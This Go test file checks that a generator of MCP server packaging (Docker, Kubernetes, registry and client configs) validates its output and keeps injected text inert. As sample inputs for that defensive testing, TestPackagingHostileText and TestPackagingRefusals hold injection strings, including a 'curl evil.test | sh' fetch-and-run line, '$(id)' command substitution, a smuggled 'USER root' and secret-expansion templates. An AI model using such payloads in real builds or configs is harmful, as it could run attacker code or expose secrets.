package gen

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v6"
	"go.yaml.in/yaml/v4"

	"github.com/seed7346ab69/toolmill/internal/prove"
	"github.com/seed7346ab69/toolmill/parse/ir"
)

// named is a packaging without examples.
var named = &Packaging{RegistryName: "io.github.me/pets", Image: "ghcr.io/me/pets", Repository: "https://github.com/me/pets", Release: "1.2.3"}

// packagingSchemas says which schema each JSON file must satisfy.
var packagingSchemas = map[string]string{
	"server.json":      "registry-server",
	"manifest.json":    "bundle-manifest",
	".mcp.json":        "project-mcp",
	".vscode/mcp.json": "vscode-mcp",
}

var packagingYAML = []string{".goreleaser.yaml", "kubernetes.yaml"}

// checkPackaging holds every file to its schema, or to being YAML.
func checkPackaging(t *testing.T, tree *Tree) {
	t.Helper()
	for file, name := range packagingSchemas {
		value, err := jsonschema.UnmarshalJSON(bytes.NewReader(packed(t, tree, file)))
		if err != nil {
			t.Fatalf("%s: %v", file, err)
		}
		if err := packagingSchema(t, name).Validate(value); err != nil {
			t.Errorf("%s: %v\n%s", file, err, packed(t, tree, file))
		}
	}
	for _, file := range packagingYAML {
		for _, d := range documents(t, packed(t, tree, file)) {
			if d == nil {
				t.Errorf("%s: an empty document", file)
			}
		}
	}
}

func packagingSchema(t *testing.T, name string) *jsonschema.Schema {
	t.Helper()
	text, err := os.ReadFile(filepath.Join("..", "templates", "schemas", name+".schema.json"))
	if err != nil {
		t.Fatal(err)
	}
	schema, err := prove.CompileSchema(text)
	if err != nil {
		t.Fatal(err)
	}
	return schema
}

func packed(t *testing.T, tree *Tree, file string) []byte {
	t.Helper()
	f := tree.File(file)
	if f == nil || !f.Once {
		t.Fatalf("%s: it must be there, and written once", file)
	}
	return f.Data
}

// documents decodes a stream of YAML.
func documents(t *testing.T, text []byte) []map[string]any {
	t.Helper()
	var all []map[string]any
	for d := yaml.NewDecoder(bytes.NewReader(text)); ; {
		var value map[string]any
		switch err := d.Decode(&value); {
		case errors.Is(err, io.EOF):
			return all
		case err != nil:
			t.Fatalf("%v\n%s", err, text)
		}
		all = append(all, value)
	}
}

// dig follows keys and indexes.
func dig(value any, path ...any) any {
	for _, step := range path {
		switch step := step.(type) {
		case string:
			object, _ := value.(map[string]any)
			value = object[step]
		case int:
			list, _ := value.([]any)
			if step >= len(list) {
				return nil
			}
			value = list[step]
		}
	}
	return value
}

func TestPackagingIsOff(t *testing.T) {
	tree := generate(t, petstore(), Options{Module: "example.com/pets"})
	for _, f := range tree.Files {
		if packagingSchemas[f.Path] != "" || slices.Contains(packagingYAML, f.Path) || f.Path == "Dockerfile" {
			t.Errorf("%s was not asked for", f.Path)
		}
	}
}

// TestPackagingSchemas holds the schemas to what they must refuse: one that
// takes everything would prove nothing.
func TestPackagingSchemas(t *testing.T) {
	tree := generate(t, petstore(), Options{Module: "example.com/pets", Packaging: named})
	for _, test := range []struct{ name, file, from, to string }{
		{"name without namespace", "server.json", `"io.github.me/pets"`, `"pets"`},
		{"short digest", "server.json", strings.Repeat("0", 64), "00"},
		{"long description", "server.json", `"Pets and their orders"`, `"` + strings.Repeat("x", 101) + `"`},
		{"variable without name", "server.json", `"name": "BASE_URL"`, `"nome": "BASE_URL"`},
		{"transport", "server.json", `"stdio"`, `"pigeon"`},
		{"unknown member", "manifest.json", `"display_name"`, `"displayName"`},
		{"version of the manifest", "manifest.json", `"0.3"`, `"0.4"`},
		{"kind of server", "manifest.json", `"binary"`, `"exe"`},
		{"question without title", "manifest.json", `"title": "API key (api_key)"`, `"tittle": ""`},
		{"platform", "manifest.json", `"win32"` + "\n", `"windows"` + "\n"},
		{"unknown kind", ".mcp.json", `"stdio"`, `"pipe"`},
		{"no command", ".mcp.json", `"command"`, `"run"`},
		{"input", ".vscode/mcp.json", `"promptString"`, `"promptPassword"`},
		{"member of a server", ".vscode/mcp.json", `"env"`, `"environment"`},
	} {
		t.Run(test.name, func(t *testing.T) {
			text := string(packed(t, tree, test.file))
			broken := strings.Replace(text, test.from, test.to, 1)
			if broken == text {
				t.Fatalf("%s does not hold %s:\n%s", test.file, test.from, text)
			}
			value, err := jsonschema.UnmarshalJSON(strings.NewReader(broken))
			if err != nil {
				t.Fatal(err)
			}
			if packagingSchema(t, packagingSchemas[test.file]).Validate(value) == nil {
				t.Errorf("valid:\n%s", broken)
			}
		})
	}
}

func TestPackagingFacts(t *testing.T) {
	tree := generate(t, petstore(), Options{Package: "example.com/app/pets", Packaging: named})
	checkPackaging(t, tree)
	facts := func(file string) any {
		if strings.HasSuffix(file, ".json") {
			var value any
			if err := json.Unmarshal(packed(t, tree, file), &value); err != nil {
				t.Fatal(err)
			}
			return value
		}
		var all []any
		for _, d := range documents(t, packed(t, tree, file)) {
			all = append(all, d)
		}
		return all
	}
	container := []any{0, "spec", "template", "spec", "containers", 0}
	for _, test := range []struct {
		file string
		path []any
		want any
	}{
		{"server.json", []any{"name"}, "io.github.me/pets"},
		{"server.json", []any{"version"}, "1.2.3"},
		{"server.json", []any{"description"}, "Pets and their orders"},
		{"server.json", []any{"repository", "source"}, "github"},
		{"server.json", []any{"packages", 0, "identifier"}, "ghcr.io/me/pets:1.2.3"},
		{"server.json", []any{"packages", 0, "version"}, nil}, // the registry refuses it beside a tag
		{"server.json", []any{"packages", 1, "identifier"}, "https://github.com/me/pets/releases/download/v1.2.3/petstore.mcpb"},
		{"server.json", []any{"packages", 0, "environmentVariables", 1},
			map[string]any{"name": "API_KEY_API_KEY", "description": "Key of the security scheme api_key, sent as the header X-API-Key", "isRequired": false, "isSecret": true}},
		{"server.json", []any{"packages", 1, "environmentVariables", 5},
			map[string]any{"name": "SERVER_REGION", "description": "Part region of the API's address", "isRequired": false, "isSecret": false, "default": "eu", "choices": []any{"eu", "us"}}},
		{"manifest.json", []any{"author", "name"}, "me"},
		{"manifest.json", []any{"server", "entry_point"}, "server/linux/petstore"},
		{"manifest.json", []any{"server", "mcp_config", "platform_overrides", "win32", "command"}, "${__dirname}/server/win32/petstore.exe"},
		{"manifest.json", []any{"server", "mcp_config", "env", "API_KEY_API_KEY"}, "${user_config.API_KEY_API_KEY}"},
		{"manifest.json", []any{"user_config", "API_KEY_API_KEY", "sensitive"}, true},
		{"manifest.json", []any{"user_config", "OAUTH_CLIENT_ID_PETSTORE_AUTH", "sensitive"}, false},
		{".mcp.json", []any{"mcpServers", "petstore", "env", "API_KEY_API_KEY"}, "${API_KEY_API_KEY:-}"},
		{".mcp.json", []any{"mcpServers", "petstore", "env", "OAUTH_CLIENT_ID_PETSTORE_AUTH"}, "${OAUTH_CLIENT_ID_PETSTORE_AUTH:-}"}, // no secret, but half of one
		{".mcp.json", []any{"mcpServers", "petstore", "env", "SERVER_REGION"}, nil},                                                  // it has a good value
		{".vscode/mcp.json", []any{"inputs", 0, "password"}, true},
		{".vscode/mcp.json", []any{"servers", "petstore", "env", "API_KEY_API_KEY"}, "${input:API_KEY_API_KEY}"},
		{"kubernetes.yaml", []any{0, "kind"}, "Deployment"},
		{"kubernetes.yaml", []any{0, "spec", "template", "spec", "securityContext", "runAsNonRoot"}, true},
		{"kubernetes.yaml", []any{0, "spec", "template", "spec", "automountServiceAccountToken"}, false},
		{"kubernetes.yaml", append(container, "image"), "ghcr.io/me/pets:1.2.3"},
		{"kubernetes.yaml", append(container, "securityContext", "readOnlyRootFilesystem"), true},
		{"kubernetes.yaml", append(container, "securityContext", "allowPrivilegeEscalation"), false},
		{"kubernetes.yaml", append(container, "livenessProbe", "httpGet", "path"), "/healthz"},
		{"kubernetes.yaml", append(container, "readinessProbe", "httpGet", "path"), "/readyz"},
		{"kubernetes.yaml", append(container, "env", 0), map[string]any{"name": "API_KEY_API_KEY", "valueFrom": map[string]any{
			"secretKeyRef": map[string]any{"name": "petstore", "key": "API_KEY_API_KEY", "optional": true}}}},
		{"kubernetes.yaml", []any{1, "kind"}, "Service"},
		{"kubernetes.yaml", []any{1, "spec", "selector", "app.kubernetes.io/name"}, "petstore"},
		{".goreleaser.yaml", []any{0, "version"}, 2},
		{".goreleaser.yaml", []any{0, "builds", 0, "env", 0}, "CGO_ENABLED=0"},
		{".goreleaser.yaml", []any{0, "kos", 0, "tags", 0}, "{{ .Version }}"},
		{".goreleaser.yaml", []any{0, "kos", 0, "labels", "io.modelcontextprotocol.server.name"}, "io.github.me/pets"},
	} {
		if diff := cmp.Diff(test.want, dig(facts(test.file), test.path...)); diff != "" {
			t.Errorf("%s, %v (-want +got):\n%s", test.file, test.path, diff)
		}
	}
}

func TestDockerfile(t *testing.T) {
	tree := generate(t, petstore(), Options{Package: "example.com/app/pets", Packaging: named})
	text := string(packed(t, tree, "Dockerfile"))
	_, final, found := strings.Cut(text, "\nFROM gcr.io/distroless/static")
	if !found || strings.Contains(final, "\nFROM ") || strings.Contains(final, "\nRUN ") {
		t.Errorf("the last stage is not distroless:\n%s", text)
	}
	for _, want := range []string{
		"\nUSER 65532:65532\n", "\nENTRYPOINT [\"/petstore\"]\n", "COPY --from=build /out/server /petstore\n",
		"\nLABEL io.modelcontextprotocol.server.name=\"io.github.me/pets\"\n",
	} {
		if !strings.Contains(final, want) {
			t.Errorf("no %q in the last stage:\n%s", want, final)
		}
	}
	if !strings.Contains(text, "go build -trimpath -ldflags=\"-s -w\" -o /out/server example.com/app/pets\n") {
		t.Errorf("not this package is built:\n%s", text)
	}
	if m := regexp.MustCompile(`(?m)^(ENV|ADD|USER (0|root)|.*(API_KEY|SECRET|TOKEN)).*`).FindString(text); m != "" {
		t.Errorf("it must not hold %q", m)
	}
}

// TestPackagingHostileText holds that no text of a document becomes anything but
// text, in any of the languages of the packaging.
func TestPackagingHostileText(t *testing.T) {
	like := hostileServer("plain")
	like.Upstreams[0].URL = "https://a.test"
	plain := generate(t, like, Options{Module: "example.com/x", Packaging: named})
	more := append(slices.Clone(hostile),
		"x\n  injected: true\n", "\"\nUSER root\n", "'; RUN curl evil.test | sh #", "${{ secrets.TOKEN }}", "${user_config.OTHER} ${HOME} ${input:other}",
		"{{ .Env.SECRET }}", "&anchor *alias !!tag %TAG", "--- \n...\n", "$(id) `id` $HOME", "</script>\u2028\u2029", "0x1F", "null", "~", "y: [", "\\\"", "\t- x")
	for _, s := range more {
		t.Run(strconv.Quote(s[:min(len(s), 20)]), func(t *testing.T) {
			server := hostileServer(s)
			tree := generate(t, server, Options{Module: "example.com/x", Packaging: named})
			checkPackaging(t, tree)
			// These hold names only. With the same ones they are the same.
			server.Name, server.Upstreams[0].URL = like.Name, like.Upstreams[0].URL
			for i := range server.Auth {
				server.Auth[i].Env = like.Auth[i].Name
			}
			tree = generate(t, server, Options{Module: "example.com/x", Packaging: named})
			checkPackaging(t, tree)
			for _, file := range []string{"Dockerfile", "kubernetes.yaml", ".goreleaser.yaml"} {
				if diff := cmp.Diff(string(packed(t, plain, file)), string(packed(t, tree, file))); diff != "" {
					t.Errorf("%s holds text of the document:\n%s", file, diff)
				}
			}
			// What hosts expand stands in values of ours alone.
			for _, file := range []string{".mcp.json", ".vscode/mcp.json"} {
				for _, m := range regexp.MustCompile(`\$\{[^}]*\}`).FindAllString(env(t, tree, file), -1) {
					if !regexp.MustCompile(`^\$\{(input:)?[A-Z_][A-Z0-9_]*(:-)?\}$`).MatchString(m) {
						t.Errorf("%s expands %s", file, m)
					}
				}
			}
		})
	}
}

// env returns the environments that a client configuration gives to servers.
func env(t *testing.T, tree *Tree, file string) string {
	t.Helper()
	var config map[string]any
	if err := json.Unmarshal(packed(t, tree, file), &config); err != nil {
		t.Fatal(err)
	}
	var all []any
	for _, key := range []string{"servers", "mcpServers"} {
		servers, _ := config[key].(map[string]any)
		for _, s := range servers {
			all = append(all, dig(s, "env"))
		}
	}
	return fmt.Sprint(all...)
}

func TestRequiredSettings(t *testing.T) {
	tool := func(security ...[]ir.AuthUse) *ir.Tool {
		return &ir.Tool{Input: json.RawMessage(`{"type":"object"}`), Request: &ir.Request{Method: "GET", Path: "/", Security: security}}
	}
	use := func(names ...string) []ir.AuthUse {
		var all []ir.AuthUse
		for _, n := range names {
			all = append(all, ir.AuthUse{Name: n})
		}
		return all
	}
	for _, test := range []struct {
		name  string
		url   string
		tools []*ir.Tool
		want  []string
	}{
		{"every tool needs the key", "https://a.test", []*ir.Tool{tool(use("key")), tool(use("key", "token"))}, []string{"API_KEY_KEY"}},
		{"one tool needs nothing", "https://a.test", []*ir.Tool{tool(use("key")), tool()}, nil},
		{"anonymous will do", "https://a.test", []*ir.Tool{tool(use("key"), use())}, nil},
		{"one of two", "https://a.test", []*ir.Tool{tool(use("key"), use("token"))}, nil},
		{"the key in either way", "https://a.test", []*ir.Tool{tool(use("key"), use("key", "token"))}, []string{"API_KEY_KEY"}},
		{"both halves or a token", "https://a.test", []*ir.Tool{tool(use("client"))}, nil},
		{"no host", "/v1", []*ir.Tool{tool()}, []string{"BASE_URL"}},
		{"no server", "", []*ir.Tool{tool(use("token"))}, []string{"BASE_URL", "BEARER_TOKEN_TOKEN"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			s := &ir.Server{Name: "x", Title: "X", Version: "1", Auth: []ir.Auth{
				{Name: "client", Kind: ir.ClientCredentials}, {Name: "key", Kind: ir.APIKey, In: ir.InHeader, Wire: "K"}, {Name: "token", Kind: ir.Bearer}}}
			if test.url != "" {
				s.Upstreams = []ir.Upstream{{URL: test.url}}
			}
			for i, tool := range test.tools {
				tool.Name = "t" + strconv.Itoa(i)
			}
			s.Groups = []ir.Group{{Name: "g", Tools: test.tools}}
			tree := generate(t, s, Options{Module: "example.com/x", Packaging: named})
			checkPackaging(t, tree)
			var entry registryEntry
			if err := json.Unmarshal(packed(t, tree, "server.json"), &entry); err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, v := range entry.Packages[0].Settings {
				if v.Required {
					got = append(got, v.Name)
				}
			}
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Errorf("required (-want +got):\n%s", diff)
			}
		})
	}
}

func TestPackagingNames(t *testing.T) {
	for _, test := range []struct {
		name, server, version string
		given                 Packaging
		want                  [4]string // registry name, image, release, bundle
	}{
		{"nothing given", "pet_Store", "1.0", Packaging{},
			[4]string{"io.github.your-name/pet-store", "ghcr.io/your-name/pet-store", "1.0.0", "https://github.com/your-name/pet-store/releases/download/v1.0.0/pet_Store.mcpb"}},
		{"account", "pets", "2024-01-01", Packaging{RegistryName: "io.github.me/x"},
			[4]string{"io.github.me/x", "ghcr.io/your-name/pets", "0.1.0", "https://github.com/me/pets/releases/download/v0.1.0/pets.mcpb"}},
		{"domain", "1password", "v3", Packaging{RegistryName: "com.example/x"},
			[4]string{"com.example/x", "ghcr.io/your-name/mcp-1password", "0.1.0", "https://github.com/your-name/mcp-1password/releases/download/v0.1.0/1password.mcpb"}},
		{"long", strings.Repeat("a", 49) + "_b", "1.2.3-rc.1", Packaging{},
			[4]string{"io.github.your-name/" + strings.Repeat("a", 49), "ghcr.io/your-name/" + strings.Repeat("a", 49), "1.2.3-rc.1",
				"https://github.com/your-name/" + strings.Repeat("a", 49) + "/releases/download/v1.2.3-rc.1/" + strings.Repeat("a", 49) + "_b.mcpb"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			s := petstore()
			s.Name, s.Version = test.server, test.version
			checkPackaging(t, generate(t, s, Options{Module: "example.com/x", Packaging: &test.given}))
			k := (&plan{server: s}).packaging(test.given)
			if diff := cmp.Diff(test.want, [4]string{k.RegistryName, k.Image, k.Release, k.bundle}); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestPackagingRefusals(t *testing.T) {
	for _, p := range []Packaging{
		{RegistryName: "pets"}, {RegistryName: "a/b/c"}, {RegistryName: "a/b\"\nUSER root"}, {RegistryName: "a/" + strings.Repeat("b", 200)},
		{Image: "pets"}, {Image: "ghcr.io/Me/pets"}, {Image: "ghcr.io/me/pets:1"}, {Image: "ghcr.io/me/pets\n"}, {Image: "ghcr.io/me/pets@sha256:00"},
		{Repository: "github.com/me/pets"}, {Repository: "http://github.com/me/pets"}, {Repository: "https://github.com"}, {Repository: "https://me:secret@github.com/me/pets"},
		{Repository: "https://github.com/me/pets?x"}, {Repository: "https://github.com/me/\"pets"}, {Repository: "https://github.com/me/pets/"},
		{Release: "1.2"}, {Release: "v1.2.3"}, {Release: "latest"}, {Release: "1.2.3+build"}, {Release: "1.2.3-" + strings.Repeat("a", 100)},
	} {
		_, err := Generate(petstore(), Options{Module: "example.com/x", Packaging: &p})
		var r *RefusedError
		if !errors.As(err, &r) || r.Code != "packaging" || r.Hint == "" {
			t.Errorf("%+v: %v", p, err)
		}
	}
}

// TestPackagingStays holds that files with a dot are the user's too.
func TestPackagingStays(t *testing.T) {
	dir := t.TempDir()
	tree := generate(t, petstore(), Options{Module: "example.com/pets", Packaging: named})
	write(t, tree, dir)
	for _, name := range []string{".mcp.json", ".vscode/mcp.json", ".goreleaser.yaml", "Dockerfile"} {
		put(t, filepath.Join(dir, name), "mine")
	}
	if c := write(t, tree, dir); len(c.Files) != 0 {
		t.Errorf("again: %v", c.Files)
	}
	if c := write(t, generate(t, petstore(), Options{Module: "example.com/pets"}), dir); len(c.Files) != 0 {
		t.Errorf("without packaging: %v", c.Files)
	}
	if got := snapshot(t, dir); got[".mcp.json"] != "mine" || got[".vscode/mcp.json"] != "mine" {
		t.Errorf("changed: %q", got[".mcp.json"])
	}
}
